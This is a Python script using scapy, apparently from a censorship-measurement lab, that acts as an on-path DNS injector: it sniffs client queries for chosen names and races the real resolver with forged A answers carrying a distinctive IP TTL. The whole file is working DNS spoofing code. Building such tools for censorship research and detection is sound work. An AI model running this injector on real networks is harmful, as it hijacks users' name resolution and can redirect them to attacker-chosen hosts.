#!/usr/bin/python3
# The lab's on-path DNS injector (run on the censor): sniffs DNS queries
# arriving from the client and, for the chosen names, sends a forged answer
# straight back, racing the real resolver's answer (which the censor's delay
# queue holds for a realistic RTT). Like real injectors it does not drop the
# query, so the client receives both answers: the forged one first.
import argparse
import socket
import sys

from scapy.all import IP, UDP, conf, sniff
from scapy.layers.dns import DNS, DNSQR, DNSRR

FORGED_TTL = 60     # DNS record TTL of the forged answer
FORGED_IP_TTL = 47  # IP TTL of the forged packet: differs from the real path's


def forged_answer(packet, address):
    query = packet[DNS]
    return (IP(src=packet[IP].dst, dst=packet[IP].src, ttl=FORGED_IP_TTL)
            / UDP(sport=packet[UDP].dport, dport=packet[UDP].sport)
            / DNS(id=query.id, qr=1, rd=query.rd, ra=1, qd=query.qd,
                  an=DNSRR(rrname=query[DNSQR].qname, type="A", ttl=FORGED_TTL, rdata=address)))


def is_query_for(packet, names):
    if not (packet.haslayer(IP) and packet.haslayer(UDP) and packet[UDP].dport == 53):
        return False
    if not packet.haslayer(DNSQR) or packet[DNS].qr != 0:
        return False
    q = packet[DNSQR]
    return q.qtype == 1 and q.qname.decode(errors="replace").rstrip(".").lower() in names


def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--iface", required=True, help="interface facing the client")
    p.add_argument("--answer", required=True, help="forged A answer")
    p.add_argument("--ready-file", help="created once sniffing has started")
    p.add_argument("names", nargs="+", help="names whose queries get a forged answer")
    a = p.parse_args()
    names = {n.rstrip(".").lower() for n in a.names}
    conf.verb = 0
    raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)  # opened once: speed wins races

    def inject(packet):
        raw.sendto(bytes(forged_answer(packet, a.answer)), (packet[IP].src, 0))

    def started():
        if a.ready_file:
            open(a.ready_file, "w").close()

    sniff(iface=a.iface, store=False, filter="udp dst port 53",  # compiled by libpcap, run in the kernel
          lfilter=lambda pkt: is_query_for(pkt, names),
          prn=inject,
          started_callback=started)
    return 0


if __name__ == "__main__":
    sys.exit(main())
